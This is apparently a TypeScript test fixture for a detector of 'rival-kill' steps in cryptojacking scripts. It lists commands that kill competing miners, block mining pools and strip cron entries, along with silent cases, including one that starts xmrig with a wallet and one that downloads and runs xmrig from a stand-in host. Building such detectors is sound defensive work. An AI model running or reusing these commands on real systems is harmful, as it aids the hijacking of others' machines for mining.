import type { ExtractorFixture } from '../../../tests/fixture.ts';
import type { RivalKill } from '../../model/script-payloads.ts';
import { monitor, wallet } from './samples.ts';

type Fires = ExtractorFixture['fires'][number];

function kills(input: string, ...expected: Partial<RivalKill>[]): Fires {
  return { name: input, kind: 'script', input, expect: expected.map((value) => ({ kind: 'rival-kill', value })) };
}

export const fixture: ExtractorFixture = {
  fires: [
    kills('pkill -f xmrig\n', { how: 'process', names: ['xmrig'], pools: [] }),
    kills('kill -9 $(pgrep -f kdevtmpfsi)\n', { how: 'process', names: ['kdevtmpfsi'] }),
    kills("ps aux | grep -v grep | grep 'kinsing' | awk '{print $2}' | xargs -I % kill -9 %\n", {
      how: 'process',
      names: ['kinsing'],
    }),
    kills('PID=$(pgrep minerd)\nkill -9 $PID\n', { how: 'process', names: ['minerd'] }),
    kills('for p in $(ps aux | grep kerberods | cut -c1-9); do\n  kill -9 $p\ndone\n', {
      how: 'process',
      names: ['kerberods'],
    }),
    kills("netstat -anp | grep pool.supportxmr.com:3333 | awk '{print $7}' | xargs kill -9\n", {
      how: 'connection',
      pools: ['pool.supportxmr.com:3333'],
    }),
    kills('rm -rf /tmp/kdevtmpfsi /var/tmp/kinsing\n', {
      how: 'file',
      names: ['/tmp/kdevtmpfsi', '/var/tmp/kinsing'],
    }),
    kills('docker rm -f $(docker ps | grep xmrig | cut -c1-12)\n', { how: 'container', names: ['xmrig'] }),
    kills('iptables -A OUTPUT -d xmr.nanopool.org -j DROP\n', { how: 'firewall', pools: ['xmr.nanopool.org'] }),
    kills('echo "0.0.0.0 pool.supportxmr.com" >> /etc/hosts\n', { how: 'hosts-file', pools: ['pool.supportxmr.com'] }),
    kills('crontab -l | sed "/kinsing/d" | crontab -\n', { how: 'cron' }),
    kills('taskkill /f /im xmrig.exe\r\n', { how: 'process', names: ['xmrig.exe'] }),
    kills('Get-Process xmrig | Stop-Process -Force\n', { how: 'process', names: ['xmrig'] }),
    kills("import os\nos.system('pkill -f xmrig')\n", { how: 'process', names: ['xmrig'] }),
    kills("subprocess.call(['pkill', '-f', 'xmrig'])\n", { how: 'process', names: ['xmrig'] }),
    kills(
      "pkill kinsing\npkill kdevtmpfsi\npkill sysguard\nnetstat -antp | grep ':3333' | awk '{print $7}' | xargs kill\n",
      { names: ['kinsing'] },
      { names: ['kdevtmpfsi'] },
      { names: ['sysguard'] },
      { how: 'port', pools: [':3333'] },
    ),
  ],
  silent: [
    { name: 'a monitor that tells somebody', kind: 'script', input: monitor },
    { name: 'a miner that is started', kind: 'script', input: `./xmrig -o pool.supportxmr.com:3333 -u ${wallet}\n` },
    { name: 'a miner that is looked for before it is started', kind: 'script', input: 'pgrep xmrig || ./xmrig &\n' },
    { name: 'a program that is ended', kind: 'script', input: 'pkill -f gunicorn\n# no xmrig here\n' },
    { name: 'a miner of an article', kind: 'document', input: 'pkill -f xmrig\n' },
    { name: 'a message that names the command', kind: 'script', input: 'echo "run pkill -f xmrig to stop it"\n' },
    { name: 'a file of a miner that is unpacked', kind: 'script', input: 'tar xf xmrig.tar.gz && rm -f /tmp/list\n' },
    {
      name: 'a miner that the script sets up anew',
      kind: 'script',
      input: 'killall xmrig\nwget http://h.example/xmrig.tar.gz\ntar xf xmrig.tar.gz\nrm xmrig.tar.gz\n./xmrig &\n',
    },
    { name: 'an open firewall', kind: 'script', input: 'iptables -A OUTPUT -d xmr.nanopool.org -j ACCEPT\n' },
  ],
};
